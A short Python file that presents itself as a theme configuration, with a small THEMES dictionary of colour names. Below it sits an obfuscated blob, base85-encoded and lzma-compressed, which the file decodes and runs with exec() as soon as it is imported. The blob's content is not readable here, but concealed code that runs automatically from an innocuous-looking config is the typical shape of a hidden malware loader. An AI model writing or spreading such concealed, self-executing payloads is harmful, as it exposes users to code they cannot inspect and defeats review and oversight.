import base64 as _b, lzma as _l

THEMES = {'default': 'green', 'mono': 'white'}

_DATA = (
    '{Wp48S^xk9=GL@E0stWa761SMbT8$j-~g8ZhFt(On@VT6Qap3_sww@YBR?K?U8jNNZl7c{YR'
    'cx^;W0RcfktfJb7&7Wg{b?!N%-##_pn!eZE9z~)JM{itZ2s}`DNrsuqJU0Z$@|s_QBR`*bkh'
    '{-w~;f$pr_NK+KrcrO=Z<E=?7cxuV)z#p^_Z;EzJL7(|3G?#=XdTcsX-uw626AOHXW!zY{00'
    'RoTK00E)_m;nF)^zPTwvBYQl0ssI200dcD'
)

exec(_l.decompress(_b.b85decode(_DATA)))
